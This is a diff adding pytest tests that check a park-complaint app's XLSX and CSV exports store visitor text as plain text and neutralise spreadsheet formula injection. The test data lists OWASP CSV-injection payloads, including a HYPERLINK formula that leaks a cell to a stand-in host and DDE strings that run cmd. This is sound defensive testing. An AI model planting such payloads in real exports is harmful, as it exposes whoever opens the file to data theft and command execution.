@@ -112,3 +112,43 @@ def test_report_for_one_park(bureau_client, unit, cases, tmp_path):
     text = pdf_text(response.get_data(), tmp_path)
     assert "RT公园" in text
     assert "XY公园" not in text
+
+
+# what a visitor may write to attack whoever opens the export (OWASP, CSV injection)
+FORMULAS = ['=HYPERLINK("http://x/?"&C2,"details")', "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def formula_cases(unit):
+    spot = unit.parks[0].spots[0]
+    for n, body in enumerate(FORMULAS):
+        add_case(spot, unit.categories[0], T0 + timedelta(minutes=n), body=body,
+                 reference=f"RT-2026-00010{n}")
+    db.session.commit()
+
+
+def test_xlsx_cells_are_text_never_formulas(bureau_client, formula_cases):
+    import zipfile
+
+    data = bureau_client.get("/bureau/export.xlsx?month=2026-03").get_data()
+    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    assert "<f " not in sheet
+    workbook = load_workbook(io.BytesIO(data))
+    rows = list(workbook.active.iter_rows())[1:]
+    texts = [row[-1] for row in rows]
+    # the visitor's words, unchanged (XML reads a lone CR back as a line feed)
+    assert [cell.value for cell in texts] == [body.replace("\r", "\n") for body in FORMULAS]
+    assert all(cell.data_type == "s" for cell in texts)
+    assert all(cell.quotePrefix for cell in texts)
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised(bureau_client, formula_cases):
+    import csv
+
+    raw = bureau_client.get("/bureau/export.csv?month=2026-03").get_data().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(raw, newline="")))[1:]
+    assert [row[-1] for row in rows] == ["'" + body for body in FORMULAS]
+    for row in rows:
+        assert not row[-1].startswith(("=", "+", "-", "@", "\t", "\r"))
